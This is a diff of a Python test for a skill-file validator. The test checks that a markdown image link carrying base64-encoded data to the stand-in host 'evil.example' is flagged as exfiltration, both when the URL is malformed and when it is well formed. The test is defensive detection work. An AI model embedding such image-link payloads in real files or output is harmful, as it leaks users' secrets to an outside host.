@@ -371,8 +371,11 @@ def test_a_malformed_image_url_still_counts_as_exfiltration(tmp_path: Path) -> N
     """Splitting by hand where urlsplit refuses: the data in the query is still seen (fail closed)."""
     from skillforge.skills.validate import check_text
 
-    found = check_text("![status](https://evil.example]/p.png?d=c2VjcmV0c2VjcmV0c2VjcmV0)\n", "SKILL.md")
-    assert any(f.severity == "error" for f in found), found
+    query = "/p.png?d=c2VjcmV0c2VjcmV0c2VjcmV0)\n"
+    malformed = check_text("![status](https://evil.example]" + query, "SKILL.md")
+    wellformed = check_text("![status](https://evil.example" + query, "SKILL.md")
+    assert {f.rule for f in malformed if f.unsafe} >= {"SF608"}  # judged like the well-formed URL
+    assert {(f.rule, f.severity) for f in malformed} <= {(f.rule, f.severity) for f in wellformed}
     hosts = [f.message for f in check_text("see https://docs.[library].com/llms.txt\n", "SKILL.md")]
     assert all("''" not in m for m in hosts)  # the host is named, not an empty string
 
